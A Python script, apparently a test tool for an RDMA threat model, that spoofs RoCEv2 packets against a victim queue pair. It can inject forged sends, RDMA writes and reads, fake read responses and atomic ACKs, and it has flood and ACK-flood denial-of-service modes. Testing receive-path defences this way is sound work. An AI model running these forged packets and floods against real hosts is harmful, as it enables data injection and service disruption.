#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
"""Forges RoCEv2 packets at a victim QP from a raw IP socket: the
network attacker of the threat model, who can put any source and
destination address on a packet.

usage: attack_wire.py KIND SRC DST QPN PSN [ARG...] [-n COUNT]
KIND and its ARGs:
  send_only [uc|ud]        a SEND ONLY with 64 bytes of 0x5a ("ud": with a
                           DETH, Q_Key 0x11111111)
  send_first [uc]          a SEND FIRST carrying 1024 bytes (path MTU)
  write_first RKEY VA LEN  a WRITE FIRST (RETH) carrying 1024 bytes
  read_req RKEY VA LEN     an RDMA READ request
  read_resp HEX            a READ RESPONSE ONLY carrying the bytes HEX
  ack MSN                  an ACK
  atomic_ack ORIG          an atomic ACK returning ORIG
  flood SECONDS            SEND ONLY packets, PSNs far ahead, for SECONDS
  ackflood SECONDS         ACKs for PSN, again and again, for SECONDS
COUNT copies are sent (default 1), IPv4 identifiers counting up.
"""
import sys
import time

import roce_pkt as r

PAYLOAD = b"\x5a" * 64


def transport(kind, qpn, psn, args):
    tr = r.UC if "uc" in args else r.RC
    if kind == "send_only":
        if "ud" in args:
            return (r.bth(r.UD | r.SEND_ONLY, qpn, psn, ackreq=False) +
                    r.deth(0x11111111, 0x77) + PAYLOAD)
        return r.bth(tr | r.SEND_ONLY, qpn, psn) + PAYLOAD
    if kind == "send_first":
        return r.bth(tr | r.SEND_FIRST, qpn, psn) + b"\x5b" * 1024
    if kind == "write_first":
        rkey, va, length = (int(x, 0) for x in args[:3])
        return (r.bth(tr | r.WRITE_FIRST, qpn, psn) + r.reth(va, rkey, length)
                + b"\x5c" * 1024)
    if kind == "read_req":
        rkey, va, length = (int(x, 0) for x in args[:3])
        return r.bth(r.RC | r.READ_REQUEST, qpn, psn) + r.reth(va, rkey, length)
    if kind == "read_resp":
        data = bytes.fromhex(args[0])
        pad = (4 - len(data) % 4) % 4
        return (r.bth(r.RC | r.READ_RESP_ONLY, qpn, psn, pad=pad, ackreq=False)
                + r.aeth(0x1f, 1) + data + b"\0" * pad)
    if kind == "ack":
        return r.bth(r.RC | r.ACK, qpn, psn, ackreq=False) + r.aeth(
            0x1f, int(args[0], 0))
    if kind == "atomic_ack":
        return (r.bth(r.RC | r.ATOMIC_ACK, qpn, psn, ackreq=False)
                + r.aeth(0x1f, 1) + r.atmack(int(args[0], 0)))
    raise SystemExit("unknown kind " + kind)


def blast(s, dst, seconds, pkts):
    """Sends the prebuilt packets PKTS round and round for SECONDS (the
    loop only sends); prints how many went."""
    end, sent = time.time() + seconds, 0
    while time.time() < end:
        for p in pkts:
            s.sendto(p, (dst, 0))
        sent += len(pkts)
    print("sent", sent)
    return 0


def main():
    argv = sys.argv[1:]
    count = 1
    if "-n" in argv:
        i = argv.index("-n")
        count = int(argv[i + 1])
        del argv[i:i + 2]
    kind, src, dst, qpn, psn = argv[:5]
    qpn, psn, args = int(qpn, 0), int(psn, 0), argv[5:]
    s = r.raw_socket()
    if kind == "flood":
        # PSNs far ahead of the victim's, so each one passes the receive
        # path's checks and waits in the QP's queue until its work drops it.
        return blast(s, dst, float(args[0]), [
            r.packet(src, dst, r.bth(r.RC | r.SEND_ONLY, qpn, psn + 100000 + i)
                     + PAYLOAD * 8, ident=i & 0xffff) for i in range(256)])
    if kind == "ackflood":
        # What a peer that ACKs every duplicate of a resent window sends:
        # the same ACK, many times over.
        return blast(s, dst, float(args[0]), [
            r.packet(src, dst, r.bth(r.RC | r.ACK, qpn, psn, ackreq=False)
                     + r.aeth(0x1f, 1), ident=i) for i in range(256)])
    t = transport(kind, qpn, psn, args)
    for i in range(count):
        s.sendto(r.packet(src, dst, t, ident=0x200 + i), (dst, 0))
    return 0


if __name__ == "__main__":
    sys.exit(main())
